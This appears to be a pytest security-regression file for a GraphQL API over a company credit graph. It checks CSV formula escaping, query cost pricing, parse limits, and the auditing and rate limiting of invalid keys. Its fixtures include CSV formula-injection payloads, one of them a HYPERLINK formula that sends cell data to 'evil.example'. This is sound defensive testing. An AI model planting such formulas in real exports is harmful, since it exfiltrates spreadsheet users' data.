"""Defects in the HTTP/GraphQL hardening, each shown over real HTTP against the real app
on the real embedded engine: formulas in CSV exports, cost-estimate bypasses, parse
limits coded by the real schema, and keyed requests that escaped the audit log or the
rate limit."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import secrets
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from api.app import create_app
from api.audit import AuditLog
from api.keys import revoke_key
from api.settings import load_settings
from graph.store import GraphStore
from loaders.pipeline import load_files
from schema.policy import load_policy
from schema.workdays import china_today
from tests.api_client import Client, make_key
from tests.builders import entity, record, role, uscc_code
from tests.live_server import serve_in_thread

A, B, C, D, E, F, G = (uscc_code(9301 + i) for i in range(7))
HOLDER = uscc_code(9399)
DAY = (china_today() - dt.timedelta(days=10)).isoformat()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = {
    A: FORMULA,
    B: "+1+2有限公司",
    C: "-2-3有限公司",
    D: "@SUM(1,2)有限公司",
    E: "\t=1+1有限公司",
    F: "\r=1+1有限公司",
}
PLAIN = "南通正常有限公司"

EXPORT = """query($s: ExportSource!, $f: ExportFormat!) {
  exportGraph(source: $s, format: $f) { filename mediaType content } }"""
CHECK = "query Check($c: String!) { checkSanctions(code: $c) { restricted } }"


@dataclass
class Served:
    url: str
    audit_dir: Path
    operator: Client
    agency: Client
    public: Client
    keys: dict[str, str]

    def log(self) -> AuditLog:
        return AuditLog(self.audit_dir)


@contextmanager
def _serve(store: GraphStore, data_dir: Path, **settings: Any) -> Iterator[tuple[str, Path]]:
    cfg = load_settings(data_dir=data_dir, policy="nantong", **settings)
    with serve_in_thread(create_app(cfg, store=store)) as url:
        yield url, cfg.audit_path


@pytest.fixture
def served(
    store: GraphStore, tmp_path: Path, write_jsonl: Callable[[list[dict[str, Any]]], Path]
) -> Iterator[Served]:
    rows: list[dict[str, Any]] = [entity(code, name) for code, name in DANGEROUS.items()]
    rows += [
        entity(G, PLAIN),
        entity(HOLDER, "=控股(1)有限公司"),
        role(A, HOLDER, "shareholder", "2016-01-01", share_ratio=0.5),
        role(G, HOLDER, "shareholder", "2016-01-01", share_ratio=0.2),
        record("R1", G, DAY, severity="serious", list="black"),
    ]
    load_files(store, [write_jsonl(rows)], policy=load_policy("nantong"), provider="t",
               today=china_today())
    keys = {
        "operator": make_key(store, "operator", "ops"),
        "agency": make_key(store, "agency", "bid-platform", unit="finance"),
        "revoked": make_key(store, "agency", "old-platform", unit="finance"),
        "expired": make_key(store, "agency", "lapsed-platform", unit="finance",
                            expires=china_today() - dt.timedelta(days=1)),
    }
    revoke_key(store, "old-platform")
    with _serve(store, tmp_path / "data") as (url, audit_dir):
        yield Served(
            url, audit_dir,
            Client(url, keys["operator"], purpose="platform supervision"),
            Client(url, keys["agency"], purpose="招标资格审查 2026-117"),
            Client(url, None, purpose=None),
            keys,
        )


# -- 1. CSV exports ----------------------------------------------------------------------


def _csv_rows(content: str) -> list[dict[str, str]]:
    assert content.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(content[1:], newline="")))


def test_csv_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(
    served: Served,
) -> None:
    codes = [*DANGEROUS, G, HOLDER]
    # JSON carries the names as stored (the loader trims a leading tab or CR, so those
    # names are stored starting with "="): only the spreadsheet format is neutralised.
    js = served.operator.data(EXPORT, {"s": {"codes": codes}, "f": "JSON"})["exportGraph"]
    stored = {n["code"]: n["name"] for n in json.loads(js[0]["content"])["nodes"]}
    assert stored[A] == FORMULA
    files = served.operator.data(EXPORT, {"s": {"codes": codes}, "f": "CSV"})["exportGraph"]
    by_name = {f["filename"]: f["content"] for f in files}
    nodes = _csv_rows(by_name["nodes.csv"])
    names = {n["code"]: n["name"] for n in nodes}
    for code in [*DANGEROUS, HOLDER]:
        assert stored[code][0] in "=+-@\t\r"
        assert names[code] == "'" + stored[code], (code, names[code])
    assert names[G] == PLAIN  # nothing added to a harmless name
    edges = _csv_rows(by_name["edges.csv"])
    assert len(edges) == 2
    for row in [*nodes, *edges]:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row


# -- 2. The cost estimate ----------------------------------------------------------------

HEAVY_SEARCH = """query($n: Int!) {
  a: searchSubjects(text: "南通", first: $n) { code roles { entity { roles { entityCode } } } }
  b: searchSubjects(text: "有限公司", first: $n) { code roles { entity { roles { entityCode } } } }
}"""


def _raw(served: Served, body: bytes) -> dict[str, Any]:
    r = httpx.post(
        f"{served.url}/graphql", content=body, timeout=60,
        headers={"content-type": "application/json",
                 "Authorization": f"Bearer {served.keys['operator']}",
                 "X-Purpose": "platform supervision"},
    )
    assert r.status_code == 200, r.text
    out: dict[str, Any] = r.json()
    return out


def _cost_refusal(body: dict[str, Any]) -> str | None:
    for e in body.get("errors") or ():
        if e["extensions"]["code"] == "LIMIT_EXCEEDED" and "estimated cost" in e["message"]:
            return str(e["message"])
    return None


def test_integer_sizes_sent_as_json_floats_are_priced(served: Served) -> None:
    refused = _cost_refusal(served.operator.post(HEAVY_SEARCH, {"n": 100}).json())
    assert refused is not None
    for literal in (b"100.0", b"1e2", b"100.00"):
        body = b'{"query": ' + json.dumps(HEAVY_SEARCH).encode() + b', "variables": {"n": ' \
            + literal + b"}}"
        assert _cost_refusal(_raw(served, body)) == refused, literal


HOOD = """query($c: String!, $l: Int!) { neighborhood(code: $c, hops: 1, limit: $l) {
  truncated nodes { id code name kind risk }
  edges { type fromCode toCode fromId toId since until shareRatio } } }"""


def test_limit_and_first_on_a_page_or_subgraph_are_priced(served: Served) -> None:
    # The explorer's own request (web/js/graph.js, limit 200) is within the budget ...
    hood = served.operator.data(HOOD, {"c": G, "l": 200})["neighborhood"]
    assert {n["code"] for n in hood["nodes"]} >= {G, HOLDER}
    assert served.operator.data(HOOD, {"c": G, "l": 500})["neighborhood"]["nodes"]
    # ... the largest neighbourhood with every field selected is not.
    msg = _cost_refusal(served.operator.post(HOOD, {"c": G, "l": 5000}).json())
    assert msg is not None
    members = """query($n: Int) { listMembers(list: "black", first: $n) {
      hasMore members { code name kind enteredOn exitOn: enteredOn
        entries { recordUid enteredOn exitOn onList reason exitReason } } } }"""
    page = served.operator.data(members, {"n": 100})["listMembers"]
    assert [m["code"] for m in page["members"]] == [G]
    assert _cost_refusal(served.operator.post(members, {"n": 500}).json()) is not None


def test_codes_inside_an_export_source_are_priced(served: Served) -> None:
    codes = [uscc_code(20_000 + i) for i in range(500)]
    one = "exportGraph(source: {codes: $c}, format: JSON) { filename mediaType content }"
    doc = "query($c: [String!]!) { " + " ".join(f"x{i}: {one}" for i in range(14)) + " }"
    assert _cost_refusal(served.operator.post(doc, {"c": codes}).json()) is not None
    # The whole source as a variable (as the explorer and integrators send it) as well.
    doc = "query($s: ExportSource!) { " + " ".join(
        f"x{i}: exportGraph(source: $s, format: CSV) {{ filename mediaType content }}"
        for i in range(14)
    ) + " }"
    assert _cost_refusal(served.operator.post(doc, {"s": {"codes": codes}}).json()) is not None
    # A small export still runs.
    files = served.operator.data(EXPORT, {"s": {"codes": [G, HOLDER]}, "f": "JSON"})
    assert files["exportGraph"][0]["filename"] == "subgraph.json"


# -- 3. Parse limits through the real schema ---------------------------------------------


def test_documents_over_the_size_or_token_limit_are_limit_exceeded(served: Served) -> None:
    too_long = "{whoami{role}}" + " " * 100_001
    too_many = "{whoami{" + " ".join(["role"] * 6000) + "}}"
    for doc in (too_long, too_many, too_long, too_many):  # the second time from any cache
        for client in (served.public, served.operator):
            r = client.post(doc)
            assert r.status_code == 200, r.text
            err = r.json()["errors"][0]
            assert err["extensions"]["code"] == "LIMIT_EXCEEDED", err
    assert served.public.data("{whoami{role}}")["whoami"]["role"] == "public"


# -- 4. Keys that are not live: audited, and rate-limited by address ----------------------


def test_revoked_expired_and_unknown_keys_are_audited_as_refused(served: Served) -> None:
    bogus = "cg_" + secrets.token_hex(16)
    for key in (served.keys["revoked"], served.keys["expired"], bogus):
        client = Client(served.url, key, purpose="checking a supplier")
        assert client.error_code(CHECK, {"c": G}) == "UNAUTHENTICATED"
    no_scheme = Client(served.url, None, purpose=None,
                       headers={"Authorization": "Basic " + secrets.token_hex(8)})
    assert no_scheme.error_code(CHECK, {"c": G}) == "UNAUTHENTICATED"
    with served.log() as log:
        entries = list(reversed(log.query(first=10)))
        assert log.verify().ok
    assert [(e.key_name, e.key_role, e.outcome) for e in entries] == [
        ("old-platform", "agency", "refused:UNAUTHENTICATED"),
        ("lapsed-platform", "agency", "refused:UNAUTHENTICATED"),
        ("(unknown key)", "unknown", "refused:UNAUTHENTICATED"),
        ("(unknown key)", "unknown", "refused:UNAUTHENTICATED"),
    ]
    assert entries[0].purpose == "checking a supplier"
    assert entries[0].client == "127.0.0.1" and entries[0].subjects == []
    raw = b"".join(p.read_bytes() for p in served.audit_dir.rglob("*") if p.is_file())
    for secret in (bogus, served.keys["revoked"], served.keys["expired"]):
        assert secret.encode() not in raw
        assert secret.split("_", 1)[1].encode() not in raw


def test_made_up_keys_are_rate_limited_by_address_like_the_public(
    store: GraphStore, tmp_path: Path
) -> None:
    operator = Client("", make_key(store, "operator", "ops"), purpose="x")
    with _serve(store, tmp_path / "data", rate_limit_per_s=0.001, rate_limit_burst=5) as (
        url, audit_dir
    ):
        operator.url = url
        # A live key resolved before the flood stays resolved (cached for 30 s).
        assert operator.data("{ whoami { keyName } }") == {"whoami": {"keyName": "ops"}}
        codes = [
            Client(url, "cg_" + secrets.token_hex(16), purpose="x").error_code(
                CHECK, {"c": A}
            )
            for _ in range(12)
        ]
        assert codes == ["UNAUTHENTICATED"] * 5 + ["RATE_LIMITED"] * 7
        # The address's budget is spent: the public from it waits too ...
        assert Client(url, None, purpose=None).error_code(CHECK, {"c": A}) == "RATE_LIMITED"
        # ... a live key has its own budget.
        assert operator.data("{ whoami { keyName } }") == {"whoami": {"keyName": "ops"}}
        # While the address is over its limit no key is looked up, not even a live one
        # the service has not resolved lately: it cannot be told from a made-up one.
        late = Client(url, make_key(store, "agency", "late", unit="finance"), purpose="x")
        assert late.error_code("{ whoami { keyName } }") == "RATE_LIMITED"
        with AuditLog(audit_dir) as log:
            outcomes = [(e.key_name, e.outcome) for e in reversed(log.query(first=50))]
    # Refused by the address's limit before any key was looked up: not attributable,
    # and not written, so a flood of made-up keys cannot grow the log past the rate.
    assert outcomes == [
        ("ops", "ok"), *[("(unknown key)", "refused:UNAUTHENTICATED")] * 5, ("ops", "ok"),
    ]


def test_fair_share_reads_integral_floats_as_the_sizes_they_are() -> None:
    """The fair share's classification, which runs before the schema (a pure function:
    the admission itself is exercised over HTTP in tests/test_fair_share.py)."""
    from api.fair_share import is_expensive

    hood = "query($l: Int!) { neighborhood(code: \"x\", limit: $l) { truncated } }"
    for big in (5000, 5000.0, 5e3):
        assert is_expensive(hood, {"l": big}, frozenset()), big
    assert not is_expensive(hood, {"l": 500.0}, frozenset())
